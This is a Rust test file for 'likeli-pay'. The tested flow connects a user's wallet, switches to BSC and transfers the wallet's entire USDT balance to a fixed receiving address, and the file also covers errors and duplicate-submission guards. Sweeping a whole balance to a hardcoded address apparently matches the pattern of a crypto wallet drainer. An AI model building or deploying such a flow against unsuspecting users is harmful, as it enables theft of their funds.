// File: likeli-pay/tests/transfer.rs
// Project: likeli-pay
// Creation date: Monday 22 June 2026
// Author: Vincent Berthier <vincent.berthier@likeli.io>
// -----
// Last modified: Wednesday 05 August 2026 @ 10:27:18
// Modified by: Vincent Berthier
// -----
// Copyright © 2026 <Likeli> - All rights reserved

#![allow(clippy::tests_outside_test_module)]
#![allow(clippy::panic_in_result_fn)]
#![allow(clippy::unwrap_used)]

type Error = Box<dyn error::Error>;
type Result<T> = result::Result<T, Error>;

use std::{error, result, time::Duration};

use alloy_primitives::U256;
use likeli_common::{
    constants::{RECEIVING_ADDRESS, TARGET_CHAIN_ID, USDT_ADDRESS},
    Error as FlowError,
};
use likeli_pay::{TransferOutcome, TransferStatus};
use tokio::time::sleep;

use crate::common::{
    init_connected, init_default, init_unconfigured, init_wrong_chain, usdt, Call, TEST_TX_HASH,
    USER_ADDRESS,
};

pub mod common;

#[tokio::test]
async fn full_balance_goes_to_the_treasury() -> Result<()> {
    let env = init_connected(usdt(1)).await;
    env.connector.set_tx_hash(TEST_TX_HASH);

    let outcome = env.flow.submit_full_balance_transfer().await?;
    assert_eq!(
        outcome,
        TransferOutcome::Submitted {
            tx: Some(TEST_TX_HASH),
        }
    );

    // Exactly one write, with the freshly read balance.
    let writes: Vec<Call> = env
        .connector
        .calls()
        .into_iter()
        .filter(|call| matches!(call, Call::Write { .. }))
        .collect();
    assert_eq!(
        writes,
        vec![Call::Write {
            token: USDT_ADDRESS,
            to: RECEIVING_ADDRESS,
            amount: usdt(1),
        }]
    );

    let snapshot = env.flow.snapshot();
    assert_eq!(
        snapshot.transfer,
        TransferStatus::Succeeded {
            tx: Some(TEST_TX_HASH),
        }
    );
    let notice = snapshot.notice.unwrap();
    assert!(notice.as_str().starts_with("Transfer submitted."));
    assert!(notice.as_str().contains(&TEST_TX_HASH.to_string()));

    Ok(())
}

#[tokio::test]
async fn success_without_a_reported_hash() -> Result<()> {
    let env = init_connected(usdt(2)).await;

    let outcome = env.flow.submit_full_balance_transfer().await?;
    assert_eq!(outcome, TransferOutcome::Submitted { tx: None });

    let snapshot = env.flow.snapshot();
    assert_eq!(
        snapshot.notice.unwrap().as_str(),
        "Transfer submitted. Confirm it in your wallet."
    );
    Ok(())
}

#[tokio::test]
async fn zero_balance_never_writes() {
    let env = init_connected(U256::ZERO).await;

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::InsufficientBalance);

    let snapshot = env.flow.snapshot();
    assert_eq!(
        snapshot.notice.unwrap().as_str(),
        "No USDT balance available to transfer."
    );
    assert_eq!(env.connector.write_count(), 0);
}

#[tokio::test]
async fn the_fresh_balance_decides_the_amount() -> Result<()> {
    let env = init_connected(usdt(5)).await;
    // The displayed balance is now stale.
    env.connector.set_balance(usdt(2));

    env.flow.submit_full_balance_transfer().await?;

    let amounts: Vec<U256> = env
        .connector
        .calls()
        .into_iter()
        .filter_map(|call| match call {
            Call::Write { amount, .. } => Some(amount),
            Call::Connect | Call::Switch(_) | Call::Read { .. } => None,
        })
        .collect();
    assert_eq!(amounts, vec![usdt(2)]);
    Ok(())
}

#[tokio::test]
async fn refused_switch_aborts_before_any_read_or_write() {
    let env = init_wrong_chain(1, usdt(1)).await;
    env.connector.reject_switches();

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::ChainMismatch);

    let snapshot = env.flow.snapshot();
    assert_eq!(snapshot.notice.unwrap().as_str(), "Switch to BSC to continue.");
    assert!(!snapshot.transfer.is_in_flight());
    assert_eq!(env.connector.read_count(), 0);
    assert_eq!(env.connector.write_count(), 0);

    // The guard is released: a new attempt runs the whole sequence again.
    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::ChainMismatch);
    assert_eq!(env.connector.switch_count(), 2);
}

#[tokio::test]
async fn only_the_first_submission_proceeds() -> Result<()> {
    let env = init_connected(usdt(1)).await;
    env.connector.set_tx_hash(TEST_TX_HASH);
    env.connector.hold_writes();

    let first = tokio::spawn({
        let flow = env.flow.clone();
        async move { flow.submit_full_balance_transfer().await }
    });
    // Wait until the first submission is suspended in the wallet.
    let mut suspended = false;
    for _ in 0_u8..50 {
        if env.connector.write_count() == 1 {
            suspended = true;
            break;
        }
        sleep(Duration::from_millis(10)).await;
    }
    assert!(suspended, "the first submission never reached the wallet");

    let second = env.flow.submit_full_balance_transfer().await?;
    assert_eq!(second, TransferOutcome::AlreadyInFlight);

    env.connector.release_writes();
    let first = first.await??;
    assert_eq!(
        first,
        TransferOutcome::Submitted {
            tx: Some(TEST_TX_HASH),
        }
    );
    assert_eq!(env.connector.write_count(), 1);
    Ok(())
}

#[tokio::test]
async fn without_project_id_nothing_is_called() {
    let env = init_unconfigured();

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::Configuration);

    assert!(env.connector.calls().is_empty());
    assert!(env
        .flow
        .snapshot()
        .notice
        .unwrap()
        .as_str()
        .starts_with("Missing WalletConnect project id."));
}

#[tokio::test]
async fn requires_a_connected_wallet() {
    let env = init_default();

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::NotConnected);

    assert_eq!(
        env.flow.snapshot().notice.unwrap().as_str(),
        "Connect your wallet first."
    );
    assert!(env.connector.calls().is_empty());
}

#[tokio::test]
async fn missing_read_client_aborts() {
    let env = init_connected(usdt(1)).await;
    env.connector.remove_read_client();

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::ProviderUnavailable);

    assert_eq!(
        env.flow.snapshot().notice.unwrap().as_str(),
        "Public client unavailable. Please try again."
    );
    assert_eq!(env.connector.read_count(), 0);
    assert_eq!(env.connector.write_count(), 0);
}

#[tokio::test]
async fn missing_signer_aborts_after_the_read() {
    let env = init_connected(usdt(1)).await;
    env.connector.remove_signer();

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::SignerUnavailable);

    assert_eq!(
        env.flow.snapshot().notice.unwrap().as_str(),
        "Wallet write unavailable. Please reconnect."
    );
    assert_eq!(env.connector.read_count(), 1);
    assert_eq!(env.connector.write_count(), 0);
}

#[tokio::test]
async fn rejected_signature_is_terminal() {
    let env = init_connected(usdt(1)).await;
    env.connector.reject_writes();

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::TransferRejected);

    let snapshot = env.flow.snapshot();
    assert_eq!(
        snapshot.transfer,
        TransferStatus::Failed {
            reason: FlowError::TransferRejected,
        }
    );
    assert_eq!(
        snapshot.notice.unwrap().as_str(),
        "Transfer was canceled or failed."
    );
    assert_eq!(env.connector.write_count(), 1);

    // No retry happened on its own, but a new attempt is possible.
    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::TransferRejected);
    assert_eq!(env.connector.write_count(), 2);
}

#[tokio::test]
async fn failed_fresh_read_aborts_without_writing() {
    let env = init_connected(usdt(1)).await;
    env.connector.fail_reads();

    let error = env.flow.submit_full_balance_transfer().await.unwrap_err();
    assert_eq!(error, FlowError::TransferRejected);

    assert_eq!(env.connector.read_count(), 1);
    assert_eq!(env.connector.write_count(), 0);
}

#[tokio::test]
async fn connects_the_wallet_end_to_end() -> Result<()> {
    // The whole page flow: connect, then pay everything.
    let env = init_default();
    env.connector.set_connect_account(USER_ADDRESS, TARGET_CHAIN_ID);
    env.connector.set_balance(usdt(7));
    env.connector.set_tx_hash(TEST_TX_HASH);

    env.flow.connect().await?;
    let outcome = env.flow.submit_full_balance_transfer().await?;

    assert_eq!(
        outcome,
        TransferOutcome::Submitted {
            tx: Some(TEST_TX_HASH),
        }
    );
    assert_eq!(env.connector.write_count(), 1);
    Ok(())
}
